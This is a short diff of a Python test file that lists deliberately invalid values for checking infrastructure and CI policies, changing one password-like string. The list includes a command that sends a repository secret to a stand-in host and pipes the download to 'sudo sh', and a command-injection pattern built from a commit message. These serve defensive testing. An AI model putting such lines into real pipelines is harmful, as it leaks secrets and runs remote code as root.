@@ -29,7 +29,7 @@ from tests.worlds import commit
 POLICIES = shipped("policies")
 WRONG: tuple[Any, ...] = (
     None, 0, 5, 1.5, True, False, "", "tofu apply", "latest", "*", "other", "default", [], ["terraform apply"], ["*"], {}, {"name": 5},
-    {"run": "terraform apply"}, "Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}], "bases": ["a"]},
+    {"run": "terraform apply"}, "Tr0ub4dor&3-Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}], "bases": ["a"]},
     "{{ .name }}", {"allowEmpty": True, "prune": True, "suspend": True, "vars": []}, "write-all", "echo $(Build.SourceVersionMessage)",
     "alpine:latest", ".env .", "node:16", "example/tool@main",
     "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
